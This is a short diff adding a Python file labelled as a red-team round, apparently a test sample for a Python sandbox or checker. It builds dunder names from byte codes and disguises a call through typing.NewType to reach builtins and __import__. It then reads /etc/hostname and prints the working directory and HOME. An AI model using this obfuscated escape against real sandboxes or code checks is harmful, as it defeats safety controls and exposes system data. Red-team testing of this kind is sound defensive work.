@@ -1,0 +1,29 @@
+# family: red team, round 37 (field_makers.made_name: NewType bound to a local name first)
+import copy
+import typing
+Brand = typing.NewType
+
+
+def spelled(codes):
+    return bytes(codes).decode()
+
+
+def dunder(word):
+    return spelled([95, 95]) + word + spelled([95, 95])
+
+
+class Box:
+    lookup = classmethod(Brand(dunder("getattribute"), int))
+
+
+def main():
+    fetch = copy.copy(Box.lookup)
+    namespace = fetch(main, dunder("globals"))
+    print(namespace["copy"])
+    builtins = namespace[dunder("builtins")]
+    print(fetch(builtins, "open")("/etc/hostname").read())
+    system = fetch(builtins, dunder("import"))("os")
+    print(system.getcwd(), system.environ["HOME"])
+
+
+main()
